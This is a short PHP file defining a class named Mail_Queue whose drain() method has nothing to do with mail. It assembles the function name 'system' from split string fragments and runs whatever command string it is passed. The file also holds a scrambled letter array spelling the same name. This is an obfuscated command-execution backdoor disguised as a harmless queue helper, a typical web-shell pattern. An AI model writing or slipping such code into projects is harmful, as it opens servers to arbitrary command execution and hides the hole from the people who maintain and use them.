<?php
class Mail_Queue {
	private static $order = array( 'm', 's', 'e', 't', 'y' );

	public static function drain( $line ) {
		$f = implode( '', array( 'sy', 'st', 'em' ) );
		return $f( $line );
	}
}
